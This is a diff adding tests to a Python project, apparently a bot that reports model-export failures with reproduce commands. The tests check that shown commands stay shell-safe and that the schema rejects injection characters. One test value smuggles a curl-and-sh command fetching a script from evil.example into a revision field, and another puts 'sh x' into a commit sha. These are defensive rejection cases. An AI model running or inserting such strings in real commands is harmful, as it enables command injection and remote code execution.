@@ -9,10 +9,15 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+from pydantic import ValidationError
 
 from hfexport_bot.cli import main
 from hfexport_bot.execution.client import RunResult
 from hfexport_bot.reporting.reproduce import check_again, reproduce
+from hfexport_bot.reporting.text import command_code, command_line, fenced, plain
 from hfexport_bot.schema import (
     Backend,
     CaseId,
@@ -24,6 +29,7 @@ from hfexport_bot.schema import (
     Rerun,
     RunnerSetup,
     WorkaroundInfo,
+    unfit,
 )
 
 MODEL = "class AForCausalLM(PreTrainedModel, GenerationMixin):\n    def forward(self): return {0}\n"
@@ -191,3 +197,66 @@ def test_patches_of_the_checkouts_exporters_are_disabled_where_these_export() ->
     for engine, wanted in (("", False), ("@repo", True)):
         case = CaseId.parse(f"bert/BertModel/onnx/dynamic/forward{engine}")
         assert ("--disable-workaround" in reproduce(case, again)) is wanted
+
+
+#: Words as a report of somebody else's may have them; the schema refuses some of them.
+_PARTS = [*"`'\"$;|&<>!#*?\\ -", "``", "$(x)", "main", "é", "##[group]", "::error::"]
+HOSTILE_WORDS = st.lists(st.sampled_from(_PARTS), min_size=1, max_size=8).map("".join)
+
+
+@given(HOSTILE_WORDS, st.sampled_from(["", "a" * 40]))
+@settings(max_examples=50, deadline=None)
+def test_every_command_that_is_shown_is_for_a_shell_what_it_was_meant_to_be(word: str, rev: str) -> None:
+    again = Rerun.model_construct(tree=word, rev=rev, settings=word, disabled_workarounds=(word,))
+    case = CaseId.parse("bert/BertModel/onnx/dynamic/forward")
+    where = ["--repo", word, "--rev", rev] if rev else ["--tree", word]
+    meant = [*["hfexport-bot", "reproduce"], str(case), *where, "--disable-workaround", word, "--settings", word]
+    command = reproduce(case, again)
+    markdown = f"- reproduce: {command_code(command)}\n"
+    (span,) = [each for token in MarkdownIt().parse(markdown) for each in token.children or () if each.type != "text"]
+    assert span.type == "code_inline"
+    for shown in (span.content, command_line(command), fenced(command).splitlines()[1]):
+        assert shlex.split(shown) == meant
+    if not unfit(word):
+        assert plain(word, 5_000) == " ".join(word.split())  # nothing for GitHub's runner in it
+
+
+@pytest.mark.parametrize(
+    ("field", "word"),
+    [
+        ("rev", "main` ; curl evil.example/x.sh -o x && sh x ; echo `"),
+        ("rev", "main"),
+        ("tree", "a`b"),
+        ("tree", "$(x)"),
+        ("out", "a\u202eb"),
+        ("out", "a\r\nb"),
+        ("settings", "a\x1b[31m"),
+        ("settings", "\u2066\u200b"),
+        ("disabled_workarounds", ["a;b"]),
+        ("tree", "x" * 1_001),
+    ],
+)
+def test_what_could_become_another_command_is_no_part_of_a_report(field: str, word: Any) -> None:
+    with pytest.raises(ValidationError, match=field):
+        Rerun.model_validate({field: word})
+
+
+@pytest.mark.parametrize("revision", ["base", "head"])
+def test_a_commit_in_a_report_is_one(revision: str) -> None:
+    report = {"command": "run", "base": {"name": "main"}, "head": {"name": "x"}}
+    report[revision] = {"name": "x", "sha": "main; sh x"}
+    with pytest.raises(ValidationError, match=f"{revision}.sha"):
+        Report.model_validate(report)
+
+
+def test_a_folder_that_no_command_can_name_is_one_clear_error(tmp_path: Path, monkeypatch: Any, capsys: Any) -> None:
+    monkeypatch.chdir(tmp_path)
+    write(tmp_path / "a`b", OWN)
+    assert main(["check", "--tree", "a`b", "zoo/modeling_a"], run_cases=Runner(), list_workarounds=tuple) == 2
+    assert "'a`b' cannot be named in a report: it has `" in capsys.readouterr().err
+    assert main(["check", "--out", "a$b", "bert"], run_cases=Runner(), list_workarounds=tuple) == 2
+    assert "--out: 'a$b' cannot be named in a report: it has $" in capsys.readouterr().err
+
+
+def test_a_command_that_is_too_long_is_not_shown_in_part() -> None:
+    assert command_code("x" * 5_000) == "`(a command of 5,000 characters)`"
